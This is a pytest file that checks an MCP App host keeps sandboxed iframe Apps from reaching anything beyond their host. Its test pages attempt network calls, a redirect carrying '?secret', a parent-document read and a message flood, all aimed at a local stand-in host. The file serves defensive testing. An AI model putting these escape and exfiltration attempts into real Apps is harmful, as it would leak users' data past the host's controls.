"""MCP Apps in their frame: what an App may do through its host, and that it can reach nothing else."""

from __future__ import annotations

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from support.artifact import build
from support.page_steps import call, opened
from support.serving import served

REFUSED = ("Content Security Policy", "Failed to load", "ERR_", "Blocked", "net::", "violates", "Refused")

APP = """<!doctype html><title>app</title><p id=out>waiting</p><script>
let id = 0;
const pending = new Map();
const send = (method, params) => new Promise((done) => {
  id += 1;
  pending.set(id, done);
  parent.postMessage({ jsonrpc: "2.0", id, method, params }, "*");
});
const out = document.getElementById("out");
addEventListener("message", async ({ data }) => {
  if (pending.has(data.id)) pending.get(data.id)(data.result ?? data.error);
  if (data.method === "ui/notifications/tool-result") {
    const again = await send("tools/call", { name: "helper", arguments: { text: "by the app" } });
    const denied = await send("tools/call", { name: "private", arguments: {} });
    out.textContent = [data.params.content[0].text, again.content[0].text, denied.message, await attempts()].join("|");
    parent.postMessage({ jsonrpc: "2.0", method: "ui/notifications/size-changed", params: { height: 77 } }, "*");
    await send("ui/open-link", { url: "https://example.invalid/" });
    out.textContent += "|refused";
  }
});
async function attempts() {
  const tried = [];
  const attempt = async (name, run) => tried.push(`${name} ${await run().then(() => "WENT OUT", () => "stays")}`);
  await attempt("fetch", () => fetch("http://CANARY/", { mode: "no-cors" }));
  await attempt("own", () => fetch("/mcp", { method: "POST", mode: "no-cors" }));
  await attempt("image", () => new Promise((y, n) => { const i = new Image(); i.onload = y; i.onerror = n; i.src = "http://CANARY/x.png"; }));
  await attempt("storage", async () => localStorage.setItem("a", "b"));
  await attempt("parent", async () => parent.document.body.textContent);
  await attempt("socket", () => new Promise((y, n) => { const s = new WebSocket("ws://CANARY/"); s.onopen = y; s.onerror = n; }));
  await attempt("open", async () => { if (!window.open("http://CANARY/")) throw 0; });
  return tried.join(",");
}
send("ui/initialize", { protocolVersion: "2026-01-26", appInfo: {}, appCapabilities: {} }).then((found) => {
  if (found.hostContext.toolInfo.tool.name !== "shows") return;
  parent.postMessage({ jsonrpc: "2.0", method: "ui/notifications/initialized" }, "*");
});
</script>"""
FLOOD = "<script>setInterval(() => { for (let i = 0; i < 300; i++) parent.postMessage({ jsonrpc: '2.0', method: 'x' }, '*'); }, 10);</script>"
LEAVES = "<script>setTimeout(() => { location.href = 'http://CANARY/?secret'; }, 50);</script>flees"
RELOADS = "<script>setTimeout(() => { location.href = '/healthz'; }, 50);</script>"
TOOLS = '''
from mcpc import tool


@tool(meta={"ui": {"resourceUri": "ui://apps/app"}})
def shows() -> str:
    """Show the App."""
    return "shown"


@tool(meta={"ui": {"resourceUri": "ui://apps/flood"}})
def floods() -> str:
    """Show an App that sends without end."""
    return "shown"


@tool(meta={"ui": {"resourceUri": "ui://apps/leaves"}})
def leaves() -> str:
    """Show an App that goes elsewhere."""
    return "shown"


@tool(meta={"ui": {"resourceUri": "ui://apps/reloads"}})
def reloads() -> str:
    """Show an App that goes to another document of the server."""
    return "shown"


@tool(meta={"ui": {"visibility": ["app"]}})
def helper(text: str) -> str:
    """Help the App."""
    return text


@tool(meta={"ui": {"visibility": ["model"]}})
def private() -> str:
    """Not for Apps."""
    return "private"
'''


@pytest.fixture(scope="module")
def reached():
    """Listen elsewhere; yield the address, and the paths that were asked for."""
    paths: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            paths.append(self.path)
            self.send_error(404)

        do_POST = do_GET  # noqa: N815

        def log_message(self, *_):
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"127.0.0.1:{server.server_port}", paths
        server.shutdown()


@pytest.fixture(scope="module")
def apps(tmp_path_factory, reached):
    """Serve a project with Apps."""
    folder = tmp_path_factory.mktemp("apps")
    pages = {"app": APP, "flood": FLOOD, "leaves": LEAVES, "reloads": RELOADS}
    kind = "text/html;profile=mcp-app"
    rows = [{"uri": f"ui://apps/{name}", "name": name, "mimeType": kind, "file": f"{name}.html"} for name in pages]
    files = {
        "server.json": '{"serverInfo": {"name": "apps", "version": "1"}}',
        "tools.py": TOOLS,
        "resources.json": json.dumps({"resources": rows}),
        **{f"{name}.html": page.replace("CANARY", reached[0]) for name, page in pages.items()},
    }
    for name, text in files.items():
        (folder / name).write_text(text)
    with served(build(folder, folder.parent / "apps.pyz", "--ui"), "--ui") as server:
        yield server


def test_an_app_talks_with_its_host_and_reaches_nothing_else(apps, reached):
    with opened(f"{apps.root}/ui/", allowed_errors=REFUSED) as tab:
        call(tab, "shows")
        out = tab.frame_locator("iframe").locator("#out")
        out.get_by_text("parent stays").wait_for()
        text = out.inner_text()
        assert text.startswith("shown|by the app|an App may not call this tool|"), text
        assert "WENT OUT" not in text
        tab.get_by_role("button", name="Refuse").click()
        out.get_by_text("refused").wait_for()
        assert tab.locator("iframe").evaluate("frame => frame.style.height") == "77px"
        assert tab.locator("iframe").get_attribute("sandbox") == "allow-scripts"
    assert reached[1] == []


@pytest.mark.parametrize(("tool", "said"), [("floods", "messages in a second"), ("reloads", "tried to leave")])
def test_an_app_that_floods_or_leaves_is_ended(apps, tool, said):
    with opened(f"{apps.root}/ui/", allowed_errors=REFUSED) as tab:
        call(tab, tool)
        tab.wait_for_selector(f".app >> text={said}")
        assert tab.locator("iframe").count() == 0


def test_an_app_cannot_go_to_another_site(apps, reached):
    with opened(f"{apps.root}/ui/", allowed_errors=REFUSED) as tab:
        call(tab, "leaves")
        tab.wait_for_selector("iframe")
        tab.wait_for_timeout(500)
    assert reached[1] == []
